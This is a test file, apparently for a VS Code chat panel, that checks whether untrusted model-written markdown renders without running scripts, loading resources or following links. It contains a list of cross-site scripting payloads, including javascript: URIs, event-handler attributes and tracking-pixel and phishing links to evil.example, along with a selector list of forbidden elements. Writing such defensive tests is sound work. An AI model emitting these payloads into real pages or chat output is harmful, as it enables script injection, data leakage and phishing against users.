import * as assert from "node:assert/strict";
import { type ChatPage, type ChatPages, startChatPages } from "../../support/chatPage.ts";
import { answer, question, viewOf } from "../../support/chatViews.ts";
import { attackTexts } from "./markdownCases.ts";

/** Attacks of every family, in the forms in which a model could write them. */
const ownAttacks = [
  "<script>window.hacked = 1</script>",
  "<img src=x onerror='window.hacked = 1'>",
  "<svg onload=window.hacked=1><a href=javascript:alert(1)>x</a></svg>",
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  "<style>@import url(https://evil.example/x.css)</style><link rel=stylesheet href=https://evil.example/x.css>",
  "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><button>x</button></form>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "![x](https://evil.example/pixel.png?secret)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](\x01javascript:alert(1))",
  '[x](https://example.com "onmouseover=alert(1)") <javascript:alert(1)> <https://x.example/"onclick="alert(1)>',
  '[x](https://e.example/"onmouseover="window.hacked=1) ![a"onerror="alert(1)](b"onerror="alert(1))',
  "```<img src=x onerror=alert(1)>\n</code></pre><script>window.hacked = 1</script>\n```",
  '```js" onmouseover="alert(1)\nx\n```',
  "`<script>alert(1)</script>` &lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>window.hacked=1</script> |",
  "<pre><code><script>window.hacked=1</script></code></pre>\n\n<a id=fakeHost name=braid class='send-button' style='position:fixed;inset:0' href='https://evil.example'>x</a>",
  "[ref]\n\n[ref]: javascript:alert(1) 'x'",
];

describe("untrusted words in the chat panel", function () {
  this.timeout(120_000);
  let pages: ChatPages;
  let chat: ChatPage;
  before(async () => {
    pages = await startChatPages();
  });
  after(() => pages?.dispose());
  afterEach(() => chat.close());

  /** What may never be found in a message, however it got there. */
  const findings = () =>
    chat.page.evaluate(() => {
      const forbidden =
        "script, style, link, meta, base, iframe, object, embed, form, input, svg, math, img, video, audio, [style], [id], [name], [srcdoc], [target]";
      const own = new Set(["copyCode"]);
      const found = [...document.querySelectorAll(`.messages :is(${forbidden})`)].map(({ outerHTML }) =>
        outerHTML.slice(0, 200),
      );
      for (const element of document.querySelectorAll(".messages *")) {
        for (const { name, value } of element.attributes)
          if (name.startsWith("on")) found.push(`${name}=${value}`);
        const action = (element as HTMLElement).dataset.action;
        if (action !== undefined && !own.has(action)) found.push(`action ${action}`);
        if (element instanceof HTMLAnchorElement && !/^(https?:|mailto:)/.test(element.href))
          found.push(element.href);
      }
      if ("hacked" in window) found.push("A script ran.");
      return found;
    });

  async function attack(texts: readonly string[]): Promise<void> {
    const messages = texts.flatMap((text, index) => [
      question(`q${index}`, text),
      answer(`a${index}`, text, {
        author: text.slice(0, 300),
        problem: { sentence: text.slice(0, 300), remedies: [] },
        status: "failed",
      }),
    ]);
    chat = await pages.open(
      viewOf(messages, {
        title: texts[0] ?? "",
        model: { label: texts[0] ?? "", provider: texts[1] ?? "", isGuide: false },
      }),
    );
    await chat.page.waitForTimeout(300);
    assert.deepEqual(await findings(), []);
    // Whatever waits for the mouse or the keyboard gets both.
    await chat.page.evaluate(() => {
      for (const element of document.querySelectorAll<HTMLElement>(".messages *")) {
        for (const type of [
          "mouseover",
          "mouseenter",
          "focus",
          "click",
          "auxclick",
          "animationend",
          "toggle",
        ])
          element.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
      }
    });
    await chat.page.waitForTimeout(200);
    assert.deepEqual(await findings(), []);
    assert.deepEqual(chat.incidents, []);
  }

  it("run nothing, load nothing and open nothing", () => attack(ownAttacks));

  it("run nothing while they stream in", async () => {
    const text = ownAttacks.join("\n\n");
    chat = await pages.open(
      viewOf([answer("r", "", { status: "streaming", parts: [] })], { live: { message: "r", seq: 0 } }),
    );
    await chat.host((host, text) => {
      for (let at = 0; at < text.length; at += 7)
        host.reply("r", at / 7, [{ type: "text", text: text.slice(at, at + 7) }]);
    }, text);
    await chat.page.waitForTimeout(800);
    assert.deepEqual(await findings(), []);
    assert.deepEqual(chat.incidents, []);
  });

  const collections = attackTexts();
  if (collections.length > 0)
    it(`run nothing from ${collections.length} files of public attacks`, async () => {
      const lines = collections.flatMap((text) => text.split("\n")).filter((line) => line.trim() !== "");
      // Each line alone, in messages of many paragraphs, and each file as a whole.
      const pagesOfLines = Array.from({ length: Math.ceil(lines.length / 500) }, (_, page) =>
        lines.slice(page * 500, page * 500 + 500).join("\n\n"),
      );
      await attack([...collections, ...pagesOfLines]);
    });

  it("show HTML as the text it is", async () => {
    chat = await pages.open(viewOf([answer("r", "Use <b>bold</b> and\n\n<script>alert(1)</script>")]));
    await chat.page.getByText("Use <b>bold</b> and").waitFor();
    await chat.page.getByText("<script>alert(1)</script>").waitFor();
    assert.deepEqual(chat.incidents, []);
  });

  it("name an image's host instead of loading it", async () => {
    chat = await pages.open(viewOf([answer("r", "![chart](https://tracker.example/pixel.png?d=secret)")]));
    await chat.page.getByText("Image not loaded: tracker.example (chart)").waitFor();
    assert.deepEqual(chat.incidents, []);
  });

  it("hand a link to the host, with the whole address, and go nowhere by themselves", async () => {
    chat = await pages.open(viewOf([answer("r", "[your bank](https://evil.example/login?x=1)")]));
    const link = chat.page.getByRole("link", { name: "your bank" });
    assert.equal(await link.getAttribute("title"), "https://evil.example/login?x=1");
    const reached = chat.page.evaluate(
      () =>
        new Promise((resolve) => {
          document.addEventListener("click", () => resolve("VS Code's own page"));
          setTimeout(resolve, 300, "nobody else");
        }),
    );
    await link.click();
    assert.equal(await reached, "nobody else");
    await link.click({ button: "middle" });
    await link.click({ modifiers: ["Control"] });
    assert.deepEqual(
      (await chat.asked("openLink")).map(({ url }) => url),
      ["https://evil.example/login?x=1", "https://evil.example/login?x=1"],
    );
    assert.deepEqual(chat.incidents, []);
  });

  it("become buttons only when the Guide wrote them, whatever a model calls itself", async () => {
    const text = "[Set a key](braid:setKey)";
    chat = await pages.open(
      viewOf([answer("g", text, { author: "Guide", isGuide: true }), answer("m", text, { author: "Guide" })]),
    );
    const button = chat.page.getByRole("button", { name: "Set a key" });
    assert.equal(await button.count(), 1);
    await button.click();
    await chat.page.waitForTimeout(50);
    assert.deepEqual(await chat.asked("remedy"), [
      { session: viewOf([]).session, message: "g", remedy: "setKey" },
    ]);
  });
});
